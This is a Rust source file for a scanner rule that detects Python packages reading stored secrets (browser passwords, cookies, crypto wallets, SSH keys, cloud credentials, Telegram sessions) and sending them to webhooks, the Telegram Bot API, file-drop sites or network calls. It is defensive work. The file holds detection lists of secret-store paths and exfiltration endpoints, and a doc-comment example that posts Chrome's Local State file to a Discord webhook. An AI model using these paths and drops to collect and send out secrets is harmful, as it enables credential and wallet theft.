//! # HS111 secrets-exfiltration
//!
//! ## What it does
//!
//! Flags a file that both names stores of secrets (Chromium `Login Data` /
//! `Local State` / cookies, Firefox `logins.json`, Discord's `Local
//! Storage/leveldb`, wallet extensions and wallet folders, `~/.ssh` keys, the
//! macOS keychain, cloud credentials, Telegram `.session` files and
//! `tdata`), or reads them through a library
//! (`browser_cookie3`, `rookiepy`, `pycookiecheat`, `CryptUnprotectData`),
//! and sends data out: a Discord webhook,
//! the Telegram Bot API, a paste or file-drop site, or an HTTP POST, SMTP or
//! socket send.
//!
//! ## Why it matters
//!
//! Stealing secrets and shipping them home is what most malicious PyPI
//! packages do: W4SP and its clones grab Discord tokens and browser
//! passwords for a webhook, InvisibleFerret's browser module uploads to its
//! C2 and Telegram, the Slow Pisces stealer posted `~/.ssh`, `~/.aws`,
//! `~/.kube` and the keychain, LiteLLM 1.82.8's `.pth` did the same for
//! every secret on the host. Either half alone is common; the pair is not.
//!
//! ## Example
//!
//! ```python
//! path = os.path.join(os.getenv("LOCALAPPDATA"), "Google", "Chrome", "User Data", "Local State")
//! requests.post("https://discord.com/api/webhooks/1/x", files={"f": open(path, "rb")})
//! ```
//!
//! ## False positives
//!
//! Cloud SDKs read their own credentials and talk to their own APIs; a single
//! cloud-credential path with an ordinary HTTP call is therefore not enough.
//! Browser-forensics and backup tools.
//!
//! ## References
//!
//! - THREATS.md H18, H19, H20, H21; MITRE ATT&CK T1555.003, T1552.001, T1567
//! - Elastic, "Bit ByBit" (2025); MITRE S1245 InvisibleFerret

use crate::python::Syntax;
use crate::python::tree::Node;
use crate::python::{Module, fold, names};
use crate::report::Severity;
use crate::rules::{Checker, Meta, Rule};
use aho_corasick::AhoCorasick;
use std::borrow::Cow;
use std::sync::LazyLock;

pub struct SecretsExfiltration;

static META: Meta = crate::rule_meta!("HS111", "secrets-exfiltration", Critical, High);

/// (pattern in a literal, store it names, whether it is a strong signal alone);
/// `/x/` patterns must be whole path components.
const STORES: &[(&str, &str, bool)] = &[
    ("/login data/", "browser passwords", true),
    ("/local state/", "browser master key", true),
    ("/web data/", "browser autofill", true),
    ("google/chrome/user data", "Chrome profile", false),
    ("bravesoftware", "Brave profile", false),
    ("opera software", "Opera profile", false),
    ("yandexbrowser", "Yandex profile", false),
    ("logins.json", "Firefox passwords", true),
    ("key4.db", "Firefox keys", true),
    ("cookies.sqlite", "Firefox cookies", true),
    ("local storage/leveldb", "Discord/browser token store", true),
    ("discord/local storage", "Discord token store", true),
    ("nkbihfbeogaeaoehlefnkodbefgpgknn", "MetaMask wallet", true),
    ("bfnaelmomeimhlpmgjnjophhpkkoljpa", "Phantom wallet", true),
    ("ibnejdfjmmkpcnlpebklmnkoeoihofec", "TronLink wallet", true),
    ("hnfanknocfeofbddgcijnmhnfnkdnaad", "Coinbase wallet", true),
    ("exodus/exodus.wallet", "Exodus wallet", true),
    ("atomic/local storage", "Atomic wallet", true),
    ("electrum/wallets", "Electrum wallet", true),
    ("wallet.dat", "wallet file", true),
    ("solana/id.json", "Solana key", true),
    (".ssh/id_rsa", "SSH private key", true),
    (".ssh/id_ed25519", "SSH private key", true),
    ("login.keychain", "macOS keychain", true),
    // Telegram accounts: a Telethon/Pyrogram `.session` file or Telegram
    // Desktop's `tdata` folder is a logged-in session, no password needed.
    ("/.session/", "Telegram client session", true),
    ("/tdata/", "Telegram Desktop session", true),
    ("/user data/default/cookies", "browser cookies", true),
    (
        "/user data/default/network/cookies",
        "browser cookies",
        true,
    ),
    ("/id_rsa/", "SSH private key", true),
    ("/id_ed25519/", "SSH private key", true),
    ("/id_ecdsa/", "SSH private key", true),
    ("/.ssh/", "SSH keys", false),
    ("/.aws/", "AWS credentials", false),
    ("/.kube/", "Kubernetes config", false),
    (".aws/credentials", "AWS credentials", false),
    (".kube/config", "Kubernetes config", false),
    (".config/gcloud", "Google Cloud credentials", false),
    (".azure/", "Azure credentials", false),
    (".docker/config.json", "Docker credentials", false),
    (".git-credentials", "git credentials", false),
    (".pypirc", "PyPI token", false),
    (".npmrc", "npm token", false),
];

/// One pass over a file's strings finds every pattern of [`STORES`].
static STORE_PATTERNS: LazyLock<AhoCorasick> = LazyLock::new(|| {
    AhoCorasick::new(STORES.iter().map(|(pattern, _, _)| pattern))
        .expect("the store patterns are plain strings")
});

/// One pass over a string finds every place of [`DROPS`] it names.
static DROP_PATTERNS: LazyLock<AhoCorasick> = LazyLock::new(|| {
    AhoCorasick::new(DROPS.iter().map(|(pattern, _)| pattern))
        .expect("the drop patterns are plain strings")
});

/// Libraries whose calls read a secret store for the caller (qualified-name
/// prefixes): browser cookie jars decrypted on the spot.
const STORE_LIBRARIES: &[(&str, &str)] = &[
    ("browser_cookie3.", "browser cookies (browser_cookie3)"),
    ("browsercookie.", "browser cookies (browsercookie)"),
    ("rookiepy.", "browser cookies (rookiepy)"),
    ("pycookiecheat.", "browser cookies (pycookiecheat)"),
    ("win32crypt.CryptUnprotectData", "DPAPI-protected secrets"),
];

/// Places made for receiving stolen data (or easily abused as such).
const DROPS: &[(&str, &str)] = &[
    ("discord.com/api/webhooks", "a Discord webhook"),
    ("discordapp.com/api/webhooks", "a Discord webhook"),
    ("api.telegram.org/bot", "the Telegram Bot API"),
    ("hooks.slack.com/services", "a Slack webhook"),
    ("pastebin.com/api", "Pastebin"),
    ("transfer.sh", "transfer.sh"),
    ("file.io", "file.io"),
    ("gofile.io", "Gofile"),
    ("anonfiles.com", "AnonFiles"),
    ("webhook.site", "webhook.site"),
    ("pipedream.net", "Pipedream"),
];

impl Rule for SecretsExfiltration {
    fn meta(&self) -> &'static Meta {
        &META
    }

    fn check(&self, m: &Module<'_>, checker: &mut Checker<'_>) {
        let library_reads: Vec<&str> = STORE_LIBRARIES
            .iter()
            .filter(|(prefix, _)| {
                // The cookie libraries exist to read cookie jars: importing
                // one is using it (`for b in (browser_cookie3.chrome, ...)`).
                let module = prefix.trim_end_matches('.');
                (prefix.ends_with('.') && m.imports(module))
                    || m.calls
                        .iter()
                        .any(|c| c.qname.as_deref().is_some_and(|q| q.starts_with(prefix)))
            })
            .map(|(_, what)| *what)
            .collect();
        if m.strings.is_empty() {
            return;
        }
        // All literals, joined by '/', so that path pieces passed separately
        // to os.path.join still read as one path.
        let mut hay = String::new();
        let mut drop: Option<(Node<'_>, &str)> = None;
        for (s, value) in m.strings.iter().zip(m.string_texts()) {
            let value = if value.contains('\\') {
                Cow::Owned(value.replace('\\', "/"))
            } else {
                Cow::Borrowed(value.as_str())
            };
            if drop.is_none()
                && let Some(first) = DROP_PATTERNS
                    .find_overlapping_iter(value.as_ref())
                    .map(|found| found.pattern().as_usize())
                    .min()
            {
                drop = Some((*s, DROPS[first].1));
            }
            if value.len() < 4096 {
                hay.push('/');
                hay.push_str(&value);
                hay.push('/');
            }
        }
        // Path pieces joined separately read as one path: every run of
        // slashes is one ("google//chrome" → "google/chrome").
        let mut bytes = hay.into_bytes();
        bytes.dedup_by(|a, b| *a == b'/' && *b == b'/');
        let hay = String::from_utf8(bytes).expect("only ASCII slashes were taken out");
        let mut stores: Vec<&str> = Vec::new();
        let mut strong = false;
        let mut present = vec![false; STORES.len()];
        for found in STORE_PATTERNS.find_overlapping_iter(&hay) {
            present[found.pattern().as_usize()] = true;
        }
        for ((_, what, alone), present) in STORES.iter().zip(present) {
            if present && !stores.contains(what) {
                stores.push(what);
                strong |= alone;
            }
        }
        for what in library_reads {
            if !stores.contains(&what) {
                stores.push(what);
                strong = true;
            }
        }
        if stores.is_empty() || !(strong || stores.len() >= 2) {
            return;
        }
        let send = m.calls.iter().find(|c| sends_data(m, c));
        let (node, severity, channel) = match (drop, send) {
            (Some((node, what)), _) if strong => (node, Severity::Critical, what.to_string()),
            (Some((node, what)), _) => (node, Severity::High, what.to_string()),
            (None, Some(call)) if strong || stores.len() >= 3 => (
                call.node,
                Severity::High,
                format!(
                    "{}()",
                    call.qname.as_deref().unwrap_or("?").trim_end_matches("()")
                ),
            ),
            _ => return,
        };
        checker.report(
            &META,
            node,
            severity,
            m.context(m.scope_at(node)),
            format!("reads {} and sends data to {channel}", stores.join(", ")),
        );
    }
}

/// A call that carries data out. `urllib.request.Request(url)` and
/// `urlopen(url)` only fetch; they send when they carry a body or the URL is
/// built from values (`f"https://h/?c={cookies}"`). A cookie library builds
/// `Request(url)` objects to attach cookies to, not to ship them.
fn sends_data(m: &Module<'_>, c: &crate::python::model::Call<'_>) -> bool {
    let Some(q) = c.qname.as_deref() else {
        return false;
    };
    if !names::is_network_send(q) {
        return false;
    }
    if !matches!(
        q.trim_end_matches("()"),
        "urllib.request.Request" | "urllib.request.urlopen"
    ) {
        return true;
    }
    if c.kwarg("data").is_some() || c.arg(1).is_some() {
        return true;
    }
    c.arg(0).is_some_and(|url| {
        matches!(url.kind_name(), "string" | "binary_operator")
            && fold::fold_str(m, url).is_none()
            && (url.kind_name() == "binary_operator" || m.text(url).contains('{'))
    })
}
